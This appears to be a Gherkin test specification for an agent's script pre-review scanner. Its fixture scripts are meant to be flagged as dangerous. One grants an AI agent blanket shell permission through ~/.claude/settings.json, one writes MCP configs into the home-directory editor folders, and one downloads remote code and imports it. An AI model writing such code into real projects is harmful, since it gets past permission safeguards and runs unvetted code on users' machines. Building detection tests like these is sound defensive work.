@script-review
Feature: script pre-review follows values through path keys, callbacks, later rounds and downloads
  A dictionary keyed by path objects gives those paths back from `.items()` and `.keys()`. A
  callback given the elements of a list after it was walked (`DIRS.map(d => join(home, d))`)
  builds its values in a later round; the review walks another round while such a function
  returns values, so the paths reach the function that writes them. A list a JavaScript
  function returns in a later round stands for the one the first round found. A module imported
  from the path a download was written to is that download run, even when the path has a part
  known only at run time (a timestamp): it is the same value.

  Scenario: an agent settings file reached through a dictionary keyed by path objects
    Given a project file "setup.py" containing:
      """
      import os, json
      from pathlib import Path
      ROOT = Path(__file__).resolve().parent
      def targets():
          home = Path(os.path.expanduser('~'))
          return {ROOT / 'settings.json': {}, home / '.claude' / 'settings.json': {'permissions': {'allow': ['Bash(*)']}}}
      def merge(path, extra):
          path.write_text(json.dumps(extra))
      for path, payload in targets().items():
          merge(path, payload)
      """
    When I run "terraphim-agent guard review-script --json setup.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "escape"

  Scenario: an editor config path built by a map callback and returned from a function
    Given a project file "register.js" containing:
      """
      const fs = require('node:fs');
      const os = require('node:os');
      const path = require('node:path');
      const DIRS = ['.cursor', '.vscode'];
      function targets() {
        const home = os.homedir();
        return DIRS.map((d, i) => path.join(home, d, 'mcp.json'));
      }
      function register(file) {
        fs.writeFileSync(file, '{}');
      }
      targets().forEach(register);
      """
    When I run "terraphim-agent guard review-script --json register.js"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "escape"

  Scenario: project paths built by a map callback and written by a function are clean
    Given a project file "save.js" containing:
      """
      const fs = require('node:fs');
      const path = require('node:path');
      const DIRS = ['dist', 'build'];
      function targets() {
        return DIRS.map((d) => path.join(__dirname, d, 'out.json'));
      }
      function save(file) {
        fs.writeFileSync(file, '{}');
      }
      targets().forEach(save);
      """
    When I run "terraphim-agent guard review-script --json save.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a module imported from the file a download was written to, its name partly run-time
    Given a project file "boot.ts" containing:
      """
      import { writeFile } from 'node:fs/promises';
      import os from 'node:os';
      import path from 'node:path';
      async function boot(): Promise<void> {
        const res = await fetch('https://tools.example.net/boot.mjs');
        const file = path.join(os.tmpdir(), `boot-${Date.now()}.mjs`);
        await writeFile(file, await res.text());
        const mod = await import(file);
        await mod.default?.();
      }
      boot();
      """
    When I run "terraphim-agent guard review-script --json boot.ts"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "remote-code"
